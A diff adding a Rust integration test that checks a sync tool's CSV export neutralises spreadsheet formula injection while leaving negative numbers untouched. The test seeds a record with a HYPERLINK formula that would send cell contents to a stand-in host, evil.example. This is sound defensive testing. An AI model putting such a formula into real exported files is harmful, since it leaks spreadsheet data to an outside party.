@@ -373,3 +373,64 @@ fn init_writes_a_config_only_its_owner_can_read() {
         "{err}"
     );
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_export_neutralises_formulas_and_keeps_numbers() {
+    let app = app(0.005, "").await;
+    let matters = ppsync::resource::find("matters").unwrap();
+    let invoices = ppsync::resource::find("invoices").unwrap();
+    let matter = app.truth(matters)[0]["id"].as_str().unwrap().to_string();
+    let invoice = app.truth(invoices)[0]["id"].as_str().unwrap().to_string();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    app.sim
+        .edit(
+            "matters",
+            &matter,
+            serde_json::json!({ "display_name": formula }),
+        )
+        .unwrap();
+    app.sim
+        .edit(
+            "invoices",
+            &invoice,
+            serde_json::json!({ "total": -12.5, "total_outstanding": -3 }),
+        )
+        .unwrap();
+    let (code, out, err) = app.cli(&["sync"]).await;
+    assert_eq!(code, 0, "{out}{err}");
+
+    let export = async |res: &str| {
+        let (code, out, err) = app.cli(&["export", res, "--format", "csv"]).await;
+        assert_eq!(code, 0, "{err}");
+        for line in out.lines() {
+            assert!(line.starts_with('"'), "every cell quoted: {line}");
+        }
+        let mut r = csv::Reader::from_reader(out.as_bytes());
+        let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
+        let rows: Vec<Vec<String>> = r
+            .records()
+            .map(|rec| rec.unwrap().iter().map(String::from).collect())
+            .collect();
+        (header, rows)
+    };
+    let (header, rows) = export("matters").await;
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let row = rows.iter().find(|r| r[0] == matter).unwrap();
+    assert_eq!(row[col("display_name")], format!("'{formula}"));
+    // The record itself is as received (JSON, never read as a formula: it starts with `{`).
+    let data: serde_json::Value = serde_json::from_str(&row[col("data")]).unwrap();
+    assert_eq!(data["display_name"], formula);
+    let cells = rows.len() * header.len();
+    let risky = rows
+        .iter()
+        .flatten()
+        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
+        .count();
+    assert_eq!(risky, 0, "of {cells} cells");
+
+    let (header, rows) = export("invoices").await;
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let row = rows.iter().find(|r| r[0] == invoice).unwrap();
+    assert_eq!(row[col("total")], "-12.5", "a plain number is left alone");
+    assert_eq!(row[col("total_outstanding")], "-3");
+}
